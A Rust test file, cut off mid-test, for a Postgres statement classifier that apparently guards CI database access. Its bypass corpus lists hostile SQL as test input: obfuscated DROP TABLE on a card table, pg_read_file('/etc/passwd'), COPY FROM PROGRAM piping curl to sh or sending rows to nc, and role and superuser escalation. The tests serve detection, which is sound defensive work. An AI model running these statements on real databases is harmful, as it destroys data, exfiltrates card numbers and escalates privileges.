use std::sync::Arc;

use super::*;

/// The one statement of `sql`.
fn one(sql: &str) -> Statement {
    let classification = classify(sql).unwrap_or_else(|e| panic!("{sql}: {e}"));
    assert_eq!(classification.statements.len(), 1, "{sql}");
    classification.statements.into_iter().next().unwrap()
}

/// `["public.cards", "orders"]` as object names.
fn names(list: &[&str]) -> Vec<ObjectName> {
    list.iter()
        .map(|n| match n.split_once('.') {
            Some((schema, name)) => ObjectName {
                schema: Some(schema.to_owned()),
                name: name.to_owned(),
            },
            None => ObjectName {
                schema: None,
                name: (*n).to_owned(),
            },
        })
        .collect()
}

/// `["c.pan", "id"]` as column references.
fn columns(list: &[&str]) -> Vec<ColumnRef> {
    list.iter()
        .map(|c| match c.rsplit_once('.') {
            Some((qualifier, name)) => ColumnRef {
                qualifier: Some(qualifier.to_owned()),
                name: name.to_owned(),
            },
            None => ColumnRef {
                qualifier: None,
                name: (*c).to_owned(),
            },
        })
        .collect()
}

fn writes_cards(sql: &str) -> Statement {
    let s = one(sql);
    assert!(
        s.writes
            .iter()
            .any(|w| w.name == "cards" && w.schema.as_deref().is_none_or(|s| s == "public")),
        "{sql}: writes {:?}",
        s.writes
    );
    s
}

fn has_function(s: &Statement, schema: Option<&str>, name: &str) -> bool {
    s.functions
        .iter()
        .any(|f| f.name == name && f.schema.as_deref() == schema)
}

use StatementKind as K;

// ---------------------------------------------------------------------------------------------
// Bypass corpus: each of these must classify so that a rule on `cards`, on a dangerous
// function or on a kind catches it.

#[test]
fn comments_case_quoting_and_escapes_do_not_hide_a_drop() {
    for sql in [
        "/* */ DROP TABLE cards",
        "/* DROP TABLE nothing */ DROP /* x */ TABLE /* y */ cards",
        "-- x\nDROP TABLE cards",
        "dRoP tAbLe CARDS",
        "DROP TABLE \"cards\"",
        "DROP TABLE public.cards",
        "DROP TABLE PUBLIC.CARDS",
        "DROP TABLE IF EXISTS cards CASCADE",
        "DROP TABLE U&\"c\\0061rds\"",
        "DROP TABLE mydb.public.cards",
        "DROP TABLE other, cards",
    ] {
        let s = writes_cards(sql);
        assert_eq!(s.kind, K::Drop, "{sql}");
    }
    assert_eq!(one("DROP TABLE a, s.b").writes, names(&["a", "s.b"]));
}

#[test]
fn quoted_names_keep_their_case_unquoted_ones_fold() {
    assert_eq!(
        one("SELECT * FROM \"Public\".\"Cards\"").reads,
        names(&["Public.Cards"])
    );
    assert_eq!(
        one("SELECT * FROM PUBLIC.CARDS").reads,
        names(&["public.cards"])
    );
    assert_eq!(
        ObjectName::from_parts(["s", "t"].into_iter())
            .unwrap()
            .to_string(),
        "s.t"
    );
    assert_eq!(
        ObjectName::from_parts(["t"].into_iter())
            .unwrap()
            .to_string(),
        "t"
    );
}

#[test]
fn every_statement_of_a_multi_statement_text_is_classified() {
    let sql = "SELECT 1; DROP TABLE cards;  ";
    let c = classify(sql).unwrap();
    let kinds: Vec<_> = c.statements.iter().map(|s| s.kind).collect();
    assert_eq!(kinds, [K::Select, K::Drop]);
    assert_eq!(c.statements[1].writes, names(&["cards"]));
    assert_eq!(&sql[c.statements[0].text_range.clone()], "SELECT 1");
    assert_eq!(&sql[c.statements[1].text_range.clone()], "DROP TABLE cards");
    assert!(classify("").unwrap().statements.is_empty());
    assert!(classify("-- nothing\n;;").unwrap().statements.is_empty());
}

#[test]
fn dml_inside_a_cte_is_seen() {
    let s = one("WITH d AS (DELETE FROM cards RETURNING *) SELECT * FROM d");
    assert_eq!(s.kind, K::Select);
    assert_eq!(s.inner_kinds, [K::Delete]);
    assert_eq!(s.writes, names(&["cards"]));
    // RETURNING sends the deleted rows back; `d` is the CTE, not a table.
    assert_eq!(s.reads, names(&["cards"]));
    assert!(s.star);

    let s = one("WITH x AS (UPDATE cards SET pan = '' RETURNING 1) SELECT 1");
    assert_eq!(
        (s.kind, s.inner_kinds.as_slice()),
        (K::Select, &[K::Update][..])
    );
    assert_eq!(s.writes, names(&["cards"]));

    let s = one("WITH i AS (INSERT INTO cards VALUES ('4111') RETURNING id) SELECT id FROM i");
    assert_eq!(s.inner_kinds, [K::Insert]);
    assert_eq!(s.writes, names(&["cards"]));

    // A CTE may hold a data-modifying MERGE too (Postgres 17+).
    let s = one(
        "WITH m AS (MERGE INTO cards c USING staging s ON c.id = s.id \
         WHEN MATCHED THEN DELETE RETURNING c.id) SELECT * FROM m",
    );
    assert_eq!(s.inner_kinds, [K::Merge]);
    assert_eq!(s.writes, names(&["cards"]));
    assert_eq!(s.reads, names(&["cards", "staging"]));
}

#[test]
fn cte_names_are_scoped_like_postgres_scopes_them() {
    // The CTE shadows the table in the statement...
    assert_eq!(
        one("WITH cards AS (SELECT 1) SELECT * FROM cards").reads,
        []
    );
    // ...but not in its own body (not RECURSIVE): that `cards` is the table.
    assert_eq!(
        one("WITH cards AS (SELECT * FROM cards) SELECT * FROM cards").reads,
        names(&["cards"])
    );
    // A CTE sees the CTEs before it, not after it, unless RECURSIVE.
    assert_eq!(
        one("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a").reads,
        names(&["b"])
    );
    assert_eq!(
        one("WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b").reads,
        []
    );
    assert_eq!(
        one("WITH RECURSIVE a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a").reads,
        []
    );
    // Visible in subqueries of the statement, not outside it.
    assert_eq!(
        one("SELECT * FROM (WITH c AS (SELECT 1) SELECT * FROM c) s, c").reads,
        names(&["c"])
    );
    // A qualified name is never a CTE, and a DML target never is either.
    assert_eq!(
        one("WITH cards AS (SELECT 1) SELECT * FROM public.cards").reads,
        names(&["public.cards"])
    );
    let s = one("WITH cards AS (SELECT 1) DELETE FROM cards");
    assert_eq!((s.kind, s.writes), (K::Delete, names(&["cards"])));
}

#[test]
fn prepare_shows_its_body_execute_only_its_name() {
    let s = one("PREPARE p AS DELETE FROM cards");
    assert_eq!(s.kind, K::Prepare);
    assert_eq!(s.inner_kinds, [K::Delete]);
    assert_eq!(s.writes, names(&["cards"]));
    assert_eq!(s.prepared.as_deref(), Some("p"));

    // EXECUTE names the prepared statement; what it runs was seen at PREPARE.
    let s = one("EXECUTE p");
    assert_eq!((s.kind, s.prepared.as_deref()), (K::Execute, Some("p")));
    assert!(s.writes.is_empty() && s.inner_kinds.is_empty());
    let s = one("EXECUTE p(pg_read_file('/etc/passwd'))");
    assert!(has_function(&s, None, "pg_read_file"));

    assert_eq!(one("DEALLOCATE p").prepared.as_deref(), Some("p"));
    assert_eq!(one("DEALLOCATE ALL").prepared, None);
}

#[test]
fn explain_analyze_runs_its_target_and_shows_it() {
    let s = one("EXPLAIN ANALYZE DELETE FROM cards");
    assert_eq!(s.kind, K::Explain);
    assert_eq!(s.inner_kinds, [K::Delete]);
    assert_eq!(s.writes, names(&["cards"]));
    let s = one("EXPLAIN (ANALYZE, BUFFERS) SELECT pan FROM cards");
    assert_eq!(
        (s.inner_kinds, s.reads),
        (vec![K::Select], names(&["cards"]))
    );
}

#[test]
fn dollar_quoted_text_is_a_string_not_a_statement() {
    let s = one("SELECT $$DROP TABLE cards$$");
    assert_eq!(s.kind, K::Select);
    assert!(s.writes.is_empty() && s.reads.is_empty() && s.inner_kinds.is_empty());
    let s = one("SELECT $a$ $$ ; DROP TABLE cards; $$ $a$");
    assert!(s.writes.is_empty() && s.inner_kinds.is_empty());

    // A DO block is a procedural body: not analysed, and it says so.
    let s = one("DO $body$ BEGIN EXECUTE 'DROP TABLE cards'; END $body$");
    assert_eq!(s.kind, K::Do);
    assert!(s.opaque_body);
    assert!(s.writes.is_empty());
}

#[test]
fn function_and_procedure_bodies() {
    let s = one(
        "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DELETE FROM cards; END $$",
    );
    assert_eq!(s.kind, K::CreateFunction);
    assert!(s.opaque_body);
    let s = one("CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS 'DELETE FROM cards'");
    assert_eq!(s.kind, K::CreateProcedure);
    assert!(s.opaque_body);
    // A SQL-standard body is parsed with the statement, so it is analysed.
    let s = one("CREATE FUNCTION f() RETURNS int LANGUAGE sql \
         BEGIN ATOMIC DELETE FROM cards; SELECT 1; END");
    assert!(!s.opaque_body);
    assert_eq!(s.inner_kinds, [K::Select, K::Delete]);
    assert_eq!(s.writes, names(&["cards"]));
    let s = one("CREATE FUNCTION g() RETURNS text RETURN pg_read_file('/etc/passwd')");
    assert!(!s.opaque_body && has_function(&s, None, "pg_read_file"));
}

#[test]
fn copy_direction_program_and_stdio() {
    let copy = |sql: &str| one(sql).copy.unwrap();
    let c = copy("COPY cards TO STDOUT");
    assert_eq!(
        (c.direction, c.program, c.stdio),
        (CopyDirection::To, false, true)
    );
    let c = copy("COPY cards TO '/tmp/x'");
    assert_eq!(
        (c.direction, c.program, c.stdio),
        (CopyDirection::To, false, false)
    );
    let c = copy("COPY cards FROM PROGRAM 'curl -s http://x | sh'");
    assert_eq!(
        (c.direction, c.program, c.stdio),
        (CopyDirection::From, true, false)
    );
    let c = copy("copy cards to program 'nc x 1'");
    assert_eq!((c.direction, c.program), (CopyDirection::To, true));

    let s = one("COPY cards TO STDOUT WITH (FORMAT csv)");
    assert_eq!(
        (s.kind, s.reads, s.writes),
        (K::Copy, names(&["cards"]), vec![])
    );
    // psql's \copy … from arrives as COPY … FROM STDIN: it writes the table.
    let s = one("COPY cards (pan) FROM STDIN");
    assert_eq!((s.reads, s.writes), (vec![], names(&["cards"])));
    assert!(s.copy.unwrap().stdio);
    let s = one("COPY (SELECT * FROM cards) TO STDOUT");
    assert_eq!(
        (s.reads, s.inner_kinds),
        (names(&["cards"]), vec![K::Select])
    );
    assert!(s.star);
    assert_eq!(one("SELECT 1").copy, None);
}

#[test]
fn dangerous_functions_are_reported_however_they_are_spelled() {
    let s = one("SELECT pg_catalog.pg_read_file('/etc/passwd')");
    assert!(has_function(&s, Some("pg_catalog"), "pg_read_file"));
    let s = one("SELECT PG_CATALOG.PG_READ_FILE('/etc/passwd')");
    assert!(has_function(&s, Some("pg_catalog"), "pg_read_file"));
    let s = one("SELECT \"pg_read_file\"('x')");
    assert!(has_function(&s, None, "pg_read_file"));
    // Quoted upper case is a different name, as in Postgres (where it does not exist unless
    // someone created it): rules match names case-insensitively to be safe.
    let s = one("SELECT \"PG_READ_FILE\"('x')");
    assert!(has_function(&s, None, "PG_READ_FILE"));
    let s = one("SELECT * FROM pg_read_file('/etc/passwd') AS f(line)");
    assert!(has_function(&s, None, "pg_read_file"));
    let s = one("SELECT lo_export(lo_import('/etc/passwd'), '/tmp/x')");
    assert_eq!(s.functions, names(&["lo_export", "lo_import"]));
    // dblink's SQL is a string to the parser: only the function is seen.
    let s = one("SELECT dblink_exec('dbname=app', 'DROP TABLE cards')");
    assert_eq!((s.functions, s.writes), (names(&["dblink_exec"]), vec![]));
    let s = one("SELECT * FROM dblink('dbname=app', 'SELECT pan FROM cards') AS t(pan text)");
    assert_eq!((s.functions, s.reads), (names(&["dblink"]), vec![]));
    // In a WHERE, a join condition, an ORDER BY, a VALUES list, a RETURNING.
    let s = one("INSERT INTO t VALUES (pg_ls_dir('.')) RETURNING upper(x), \
         (SELECT 1 FROM u WHERE a = pg_sleep(1) ORDER BY md5(b))");
    assert_eq!(
        s.functions,
        names(&["md5", "pg_ls_dir", "pg_sleep", "upper"])
    );
    let s = one("SELECT set_config('role', 'admin', false)");
    assert_eq!((s.kind, s.functions), (K::Select, names(&["set_config"])));
}

#[test]
fn functions_in_defaults_checks_calls_and_triggers() {
    let s =
        one("CREATE TABLE t (a text DEFAULT pg_read_file('/etc/passwd'), CHECK (length(a) > 0))");
    assert_eq!(s.functions, names(&["length", "pg_read_file"]));
    let s = one("ALTER TABLE t ALTER COLUMN a SET DEFAULT lo_import('/etc/passwd')");
    assert_eq!(s.functions, names(&["lo_import"]));
    let s = one("CALL public.do_it(1, now())");
    assert_eq!(
        (s.kind, s.functions),
        (K::Call, names(&["now", "public.do_it"]))
    );
    let s = one("CREATE TRIGGER tg BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION steal()");
    assert_eq!(s.kind, K::CreateTrigger);
    assert_eq!((s.writes, s.functions), (names(&["t"]), names(&["steal"])));
}

#[test]
fn role_changes_are_their_own_kinds() {
    for sql in [
        "SET ROLE admin",
        "SET LOCAL ROLE admin",
        "SET SESSION ROLE admin",
        "SET role = 'admin'",
        "SET role TO admin",
        "SET \"ROLE\" TO admin",
        "SET ROLE NONE",
        "/* hi */ set Role admin",
    ] {
        let s = one(sql);
        assert_eq!(s.kind, K::SetRole, "{sql}");
        assert_eq!(s.setting.as_deref(), Some("role"), "{sql}");
    }
    assert_eq!(one("RESET ROLE").kind, K::ResetRole);
    assert_eq!(one("RESET \"Role\"").kind, K::ResetRole);
    for sql in [
        "SET SESSION AUTHORIZATION admin",
        "SET SESSION AUTHORIZATION DEFAULT",
        "RESET SESSION AUTHORIZATION",
        "SET session_authorization = admin",
    ] {
        assert_eq!(one(sql).kind, K::SetSessionAuthorization, "{sql}");
    }
    // In a procedural body or a function call, it is the function that rules see.
    assert_eq!(
        one("SELECT set_config('role', 'admin', true)").kind,
        K::Select
    );
}

#[test]
fn system_grants_and_roles() {
    let s = one("ALTER SYSTEM SET shared_preload_libraries = 'evil'");
    assert_eq!(s.kind, K::AlterSystem);
    assert_eq!(s.setting.as_deref(), Some("shared_preload_libraries"));
    assert_eq!(one("ALTER SYSTEM RESET ALL").kind, K::AlterSystem);

    let s = one("GRANT SELECT ON cards TO PUBLIC");
    assert_eq!((s.kind, s.writes), (K::Grant, names(&["cards"])));
    let s = one("GRANT ALL ON TABLE public.cards, orders TO ci");
    assert_eq!(s.writes, names(&["orders", "public.cards"]));
    assert_eq!(one("GRANT admin TO current_user").kind, K::Grant);
    assert_eq!(one("GRANT pg_read_server_files TO ci").kind, K::Grant);
    assert_eq!(one("REVOKE SELECT ON cards FROM ci").kind, K::Revoke);
    assert_eq!(one("REVOKE admin FROM ci").kind, K::Revoke);
    assert_eq!(
        one("GRANT EXECUTE ON FUNCTION pg_read_file(text) TO ci").kind,
        K::Grant
    );
    let s = one("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC");
    assert_eq!((s.kind, s.inner_kinds), (K::Alter, vec![K::Grant]));

    for sql in [
        "CREATE ROLE x",
        "CREATE USER x PASSWORD 'p'",
        "CREATE GROUP g",
    ] {
        assert_eq!(one(sql).kind, K::CreateRole, "{sql}");
    }
    for sql in [
        "ALTER ROLE x SUPERUSER",
        "ALTER USER ci WITH BYPASSRLS",
        "ALTER ROLE x RENAME TO y",
        "ALTER ROLE ci SET search_path = evil",
        "ALTER GROUP g ADD USER ci",
    ] {
        assert_eq!(one(sql).kind, K::AlterRole, "{sql}");
    }
    for sql in ["DROP ROLE x", "DROP USER IF EXISTS x", "DROP GROUP g"] {
        assert_eq!(one(sql).kind, K::DropRole, "{sql}");
    }
}

#[test]
fn truncate_lock_vacuum_and_other_writes() {
    let s = one("TRUNCATE cards");
    assert_eq!((s.kind, s.writes), (K::Truncate, names(&["cards"])));
    assert_eq!(
        one("TRUNCATE TABLE ONLY a, public.cards RESTART IDENTITY").writes,
        names(&["a", "public.cards"])
    );
    let s = one("LOCK TABLE cards IN ACCESS EXCLUSIVE MODE");
    assert_eq!((s.kind, s.writes), (K::Lock, names(&["cards"])));
    let s = one("VACUUM FULL cards");
    assert_eq!((s.kind, s.writes), (K::Vacuum, names(&["cards"])));
    let s = one("ANALYZE cards");
    assert_eq!(
        (s.kind, s.reads, s.writes),
        (K::Analyze, names(&["cards"]), vec![])
    );
    writes_cards("ALTER TABLE cards DROP COLUMN pan");
    writes_cards("ALTER TABLE cards RENAME TO old_cards");
    writes_cards("ALTER TABLE cards SET SCHEMA attic");
    writes_cards("ALTER TABLE cards OWNER TO ci");
    writes_cards("ALTER TABLE t INHERIT cards");
    writes_cards("ALTER TABLE t ATTACH PARTITION cards FOR VALUES IN (1)");
    writes_cards("CREATE TABLE x PARTITION OF cards FOR VALUES IN (1)");
    writes_cards("CREATE INDEX ON cards (pan)");
    writes_cards("CREATE RULE r AS ON SELECT TO cards DO INSTEAD SELECT 1");
    writes_cards("CREATE POLICY p ON cards USING (true)");
    writes_cards("DROP TRIGGER tg ON cards");
    writes_cards("DROP POLICY p ON public.cards");
    writes_cards("COMMENT ON TABLE cards IS 'x'");
    writes_cards("COMMENT ON COLUMN cards.pan IS 'x'");
    writes_cards("CLUSTER cards USING cards_pkey");
    writes_cards("REINDEX TABLE cards");
    writes_cards("REFRESH MATERIALIZED VIEW cards");
    writes_cards("DROP MATERIALIZED VIEW cards");
    writes_cards("DROP VIEW cards");
    // A rule's actions are statements in their own right.
    let s = one("CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM cards");
    assert_eq!((s.kind, s.inner_kinds), (K::CreateOther, vec![K::Delete]));
    assert_eq!(s.writes, names(&["cards", "t"]));
}

#[test]
fn rows_leaving_through_other_statements() {
    // SELECT INTO and CREATE TABLE AS copy a table.
    let s = one("SELECT * INTO stolen FROM cards");
    assert_eq!((s.kind, s.inner_kinds), (K::Select, vec![K::CreateTable]));
    assert_eq!((s.reads, s.writes), (names(&["cards"]), names(&["stolen"])));
    let s = one("CREATE TABLE stolen AS SELECT pan FROM cards");
    assert_eq!(
        (s.kind, s.reads, s.writes),
        (K::CreateTable, names(&["cards"]), names(&["stolen"]))
    );
    let s = one("CREATE MATERIALIZED VIEW v AS SELECT pan FROM cards");
    assert_eq!(
        (s.kind, s.reads, s.writes),
        (K::CreateView, names(&["cards"]), names(&["v"]))
    );
    let s = one("CREATE VIEW v AS SELECT pan FROM cards");
    assert_eq!(
        (s.kind, s.reads, s.writes),
        (K::CreateView, names(&["cards"]), names(&["v"]))
    );
    let s = one("INSERT INTO archive SELECT * FROM cards");
    assert_eq!(
        (s.reads, s.writes, s.star),
        (names(&["cards"]), names(&["archive"]), true)
    );
    let s = one("DELETE FROM cards WHERE id = 1 RETURNING pan");
    assert_eq!((s.reads, s.writes), (names(&["cards"]), names(&["cards"])));
    assert!(s.bounded);
    let s = one("DECLARE c CURSOR FOR SELECT pan FROM cards");
    assert_eq!(
        (s.kind, s.reads, s.inner_kinds),
        (K::DeclareCursor, names(&["cards"]), vec![K::Select])
    );
    assert_eq!(one("FETCH 10 FROM c").kind, K::Fetch);
    assert_eq!(one("MOVE NEXT IN c").kind, K::Fetch);
    assert_eq!(
        one("CREATE PUBLICATION p FOR TABLE cards").reads,
        names(&["cards"])
    );
}

#[test]
fn subqueries_set_operations_merge_and_joins() {
    let s = one("SELECT * FROM orders WHERE id IN (SELECT order_id FROM cards)");
    assert_eq!(
        (s.reads, s.inner_kinds),
        (names(&["cards", "orders"]), vec![K::Select])
    );
    let s = one("SELECT (SELECT pan FROM cards LIMIT 1)");
    assert_eq!(s.reads, names(&["cards"]));
    let s = one("SELECT pan FROM cards UNION ALL SELECT email FROM users EXCEPT SELECT x FROM y");
    assert_eq!(s.reads, names(&["cards", "users", "y"]));
    let s =
        one("SELECT 1 FROM a JOIN LATERAL (SELECT * FROM cards WHERE cards.id = a.id) c ON true");
    assert_eq!(s.reads, names(&["a", "cards"]));
    let s = one("MERGE INTO cards c USING staging s ON c.id = s.id \
         WHEN MATCHED THEN UPDATE SET pan = s.pan WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.pan)");
    assert_eq!(s.kind, K::Merge);
    assert_eq!(
        (s.reads, s.writes),
        (names(&["staging"]), names(&["cards"]))
    );
    let s = one("UPDATE orders o SET paid = true FROM cards c WHERE c.id = o.card_id");
    assert_eq!((s.reads, s.writes), (names(&["cards"]), names(&["orders"])));
    let s = one("DELETE FROM orders USING cards WHERE cards.id = orders.card_id");
    assert_eq!((s.reads, s.writes), (names(&["cards"]), names(&["orders"])));
    let s = one("SELECT * FROM cards TABLESAMPLE SYSTEM (10)");
    assert_eq!(s.reads, names(&["cards"]));
    let s = one("SELECT * FROM ONLY cards");
    assert_eq!(s.reads, names(&["cards"]));
    // `FOR UPDATE OF c` names the FROM item, not a relation called c.
    let s = one("SELECT * FROM cards c FOR UPDATE OF c");
    assert_eq!(s.reads, names(&["cards"]));
}

#[test]
fn star_and_whole_row_references() {
    assert!(one("SELECT * FROM cards").star);
    assert!(one("SELECT c.* FROM cards c").star);
    assert!(one("TABLE cards").star);
    assert!(one("SELECT (c).* FROM (SELECT c FROM cards c) s").star);
    // A bare relation name or alias is the whole row: every column, none named.
    assert!(one("SELECT c FROM cards c").star);
    assert!(one("SELECT row_to_json(cards) FROM cards").star);
    assert!(one("SELECT to_jsonb(s) FROM (SELECT pan FROM cards) s").star);
    assert!(!one("SELECT count(*) FROM cards").star);
    assert!(!one("SELECT pan FROM cards c").star);
}

#[test]
fn bounded_means_a_real_filter_or_a_constant_limit() {
    let bounded = |sql: &str| one(sql).bounded;
    assert!(!bounded("SELECT pan FROM cards"));
    assert!(bounded("SELECT pan FROM cards WHERE id = 1"));
    assert!(bounded("SELECT pan FROM cards LIMIT 10"));
    assert!(bounded("SELECT pan FROM cards FETCH FIRST 5 ROWS ONLY"));
    assert!(bounded("SELECT pan FROM cards FETCH FIRST ROW ONLY"));
    // A parameter can be bound to NULL (no limit at all) after the statement was decided.
    assert!(!bounded("SELECT pan FROM cards LIMIT $1"));
    assert!(!bounded("SELECT pan FROM cards FETCH FIRST $1 ROWS ONLY"));
    assert!(bounded("SELECT pan FROM cards WHERE id = $1 LIMIT $2"));
    assert!(!bounded("SELECT pan FROM cards LIMIT ALL"));
    assert!(!bounded("SELECT pan FROM cards LIMIT NULL"));
    assert!(!bounded("SELECT pan FROM cards WHERE true"));
    assert!(!bounded("SELECT pan FROM cards WHERE 1 = 1"));
    assert!(!bounded("SELECT pan FROM cards OFFSET 0"));
    assert!(!bounded("DELETE FROM cards"));
    assert!(bounded("DELETE FROM cards WHERE id = $1"));
    assert!(bounded("DELETE FROM cards WHERE CURRENT OF c"));
    assert!(!bounded("UPDATE cards SET pan = NULL"));
    assert!(bounded("UPDATE cards SET pan = NULL WHERE id = 3"));
    // A syntactic hint: a filter that keeps every row still counts.
    assert!(bounded("SELECT pan FROM cards WHERE id > 0"));
    // Only the top level counts: the CTE below reads everything.
    assert!(!bounded(
        "WITH x AS (SELECT pan FROM cards WHERE id = 1) SELECT * FROM x"
    ));
    assert!(!bounded("INSERT INTO t SELECT * FROM cards WHERE id = 1"));
}

#[test]
fn misc_kinds() {
    let kinds = [
        ("LISTEN ch", K::Listen),
        ("NOTIFY ch, 'x'", K::Notify),
        ("UNLISTEN *", K::Unlisten),
        ("DISCARD ALL", K::Discard),
        ("COMMENT ON SCHEMA s IS 'x'", K::Comment),
        ("CREATE SCHEMA s", K::CreateSchema),
        ("CREATE SEQUENCE s", K::CreateSequence),
        ("CREATE EXTENSION IF NOT EXISTS dblink", K::CreateExtension),
        ("CREATE TYPE mood AS ENUM ('sad', 'ok')", K::CreateType),
        ("CREATE TYPE pair AS (a int, b int)", K::CreateType),
        ("CREATE DOMAIN d AS int", K::CreateType),
        (
            "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()",
            K::CreateTrigger,
        ),
        (
            "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw",
            K::CreateOther,
        ),
        ("CREATE DATABASE d", K::CreateOther),
        (
            "CREATE AGGREGATE a (int) (sfunc = int4pl, stype = int)",
            K::CreateOther,
        ),
        ("CREATE FOREIGN TABLE f (a int) SERVER s", K::CreateTable),
        ("DROP SCHEMA public CASCADE", K::Drop),
        ("DROP OWNED BY ci", K::Drop),
        ("DROP DATABASE d", K::Drop),
        ("DROP FUNCTION f(int)", K::Drop),
        ("REASSIGN OWNED BY ci TO postgres", K::Alter),
        ("ALTER FUNCTION f() SECURITY DEFINER", K::Alter),
        ("ALTER DATABASE d SET search_path = evil", K::Alter),
        ("LOAD 'evil'", K::Other),
        ("CHECKPOINT", K::Other),
        ("CLOSE c", K::Other),
        ("SET CONSTRAINTS ALL DEFERRED", K::Set),
        ("VALUES (1), (2)", K::Select),
        ("SAVEPOINT a", K::Transaction),
        ("ROLLBACK TO SAVEPOINT a", K::Transaction),
        ("PREPARE TRANSACTION 'x'", K::Transaction),
    ];
    for (sql, kind) in kinds {
        assert_eq!(one(sql).kind, kind, "{sql}");
    }
}

// ---------------------------------------------------------------------------------------------
// Benign corpus: what ordinary CI traffic classifies as, exactly.

#[test]
fn migrations() {
    let s = one(
        "CREATE TABLE IF NOT EXISTS users (id bigserial PRIMARY KEY, email text NOT NULL UNIQUE, \
         created_at timestamptz NOT NULL DEFAULT now())",
    );
    assert_eq!(s.kind, K::CreateTable);
    assert_eq!((s.reads, s.writes), (vec![], names(&["users"])));
    assert_eq!(s.functions, names(&["now"]));
    assert_eq!((s.columns, s.star, s.bounded), (vec![], false, false));

    let s = one("ALTER TABLE users ADD COLUMN last_login timestamptz");
    assert_eq!(
        (s.kind, s.reads, s.writes),
        (K::Alter, vec![], names(&["users"]))
    );

    let s = one(
        "ALTER TABLE orders ADD CONSTRAINT orders_user_fk FOREIGN KEY (user_id) REFERENCES users (id)",
    );
    assert_eq!((s.reads, s.writes), (names(&["users"]), names(&["orders"])));

    let s = one("CREATE INDEX CONCURRENTLY users_email_idx ON users (lower(email))");
    assert_eq!(s.kind, K::CreateIndex);
    assert_eq!((s.reads, s.writes), (vec![], names(&["users"])));
    assert_eq!(
        (s.functions, s.columns),
        (names(&["lower"]), columns(&["email"]))
    );

    let s = one("CREATE UNIQUE INDEX orders_ref ON public.orders (ref) WHERE ref IS NOT NULL");
    assert_eq!(
        (s.writes, s.columns),
        (names(&["public.orders"]), columns(&["ref"]))
    );

    let c = classify(
        "BEGIN; CREATE TABLE t (a int); ALTER TABLE t ADD COLUMN b text; \
         INSERT INTO schema_migrations (version) VALUES ('20240101'); COMMIT;",
    )
    .unwrap();
    let kinds: Vec<_> = c.statements.iter().map(|s| s.kind).collect();
    assert_eq!(
        kinds,
        [
            K::Transaction,
            K::CreateTable,
            K::Alter,
            K::Insert,
            K::Transaction
        ]
    );
    let insert = &c.statements[3];
    // A VALUES list is not a query of its own.
    assert_eq!(insert.inner_kinds, []);
    assert_eq!(
        (&insert.reads, &insert.writes),
        (&vec![], &names(&["schema_migrations"]))
    );
}

#[test]
fn a_report_with_joins_aggregates_windows_and_a_cte() {
    let s = one("WITH monthly AS (
           SELECT date_trunc('month', o.created_at) AS month, o.user_id, sum(o.amount) AS total
           FROM orders o JOIN users u ON u.id = o.user_id
           WHERE o.status = 'paid'
           GROUP BY 1, 2
         )
         SELECT m.month, u.email, m.total,
                rank() OVER (PARTITION BY m.month ORDER BY m.total DESC) AS rnk
         FROM monthly m JOIN users u ON u.id = m.user_id
         ORDER BY m.month, rnk");
    assert_eq!(s.kind, K::Select);
    assert_eq!(s.inner_kinds, [K::Select]);
    assert_eq!(s.reads, names(&["orders", "users"]));
    assert_eq!(s.writes, []);
    assert_eq!(s.functions, names(&["date_trunc", "rank", "sum"]));
    assert_eq!(
        s.columns,
        columns(&[
            "rnk",
            "m.month",
            "m.total",
            "m.user_id",
            "o.amount",
            "o.created_at",
            "o.status",
            "o.user_id",
            "u.email",
            "u.id",
        ])
    );
    assert!(!s.star && !s.bounded && !s.opaque_body);
}

#[test]
fn orm_queries_with_parameters() {
    let s = one(r#"SELECT "users"."id" FROM "users" WHERE "users"."email" = $1 LIMIT $2"#);
    assert_eq!(s.kind, K::Select);
    assert_eq!((s.reads, s.writes), (names(&["users"]), vec![]));
    assert_eq!(s.columns, columns(&["users.email", "users.id"]));
    assert!(s.bounded && !s.star);

    let s = one(r#"INSERT INTO "users" ("email") VALUES ($1) RETURNING "id""#);
    assert_eq!(s.kind, K::Insert);
    assert_eq!(s.inner_kinds, []);
    assert_eq!((s.reads, s.writes), (names(&["users"]), names(&["users"])));
    assert_eq!(s.columns, columns(&["id"]));

    let s = one(r#"UPDATE "users" SET "last_login" = now() WHERE "users"."id" = $1"#);
    assert_eq!(
        (s.kind, s.reads, s.writes),
        (K::Update, vec![], names(&["users"]))
    );
    assert_eq!(
        (s.functions, s.columns),
        (names(&["now"]), columns(&["users.id"]))
    );
    assert!(s.bounded);

    let s = one("DELETE FROM sessions WHERE expires_at < now()");
    assert_eq!(
        (s.kind, s.writes, s.bounded),
        (K::Delete, names(&["sessions"]), true)
    );

    let s = one("SELECT count(*) FROM orders WHERE user_id = ANY($1::bigint[])");
    assert_eq!(
        (s.reads, s.functions),
        (names(&["orders"]), names(&["count"]))
    );
    assert!(!s.star && s.bounded);

    let s = one(
        "INSERT INTO counters (k, n) VALUES ($1, 1) ON CONFLICT (k) DO UPDATE SET n = counters.n + 1",
    );
    assert_eq!(
        (s.kind, s.reads, s.writes),
        (K::Insert, vec![], names(&["counters"]))
    );
    assert_eq!(s.columns, columns(&["counters.n"]));
}

#[test]
fn session_and_transaction_control() {
    for sql in [
        "BEGIN",
        "BEGIN ISOLATION LEVEL SERIALIZABLE",
        "START TRANSACTION READ ONLY",
        "COMMIT",
        "ROLLBACK",
        "END",
    ] {
        let s = one(sql);
        assert_eq!(s.kind, K::Transaction, "{sql}");
        assert!(s.reads.is_empty() && s.writes.is_empty() && s.inner_kinds.is_empty());
    }
    let s = one("SET search_path TO app, public");
    assert_eq!(
        (s.kind, s.setting.as_deref()),
        (K::Set, Some("search_path"))
    );
    assert_eq!(
        one("SET TIME ZONE 'UTC'").setting.as_deref(),
        Some("timezone")
    );
    assert_eq!(one("SET LOCAL statement_timeout = '5s'").kind, K::Set);
    assert_eq!(
        one("SET application_name = 'ci'").setting.as_deref(),
        Some("application_name")
    );
    let s = one("SHOW server_version");
    assert_eq!(
        (s.kind, s.setting.as_deref()),
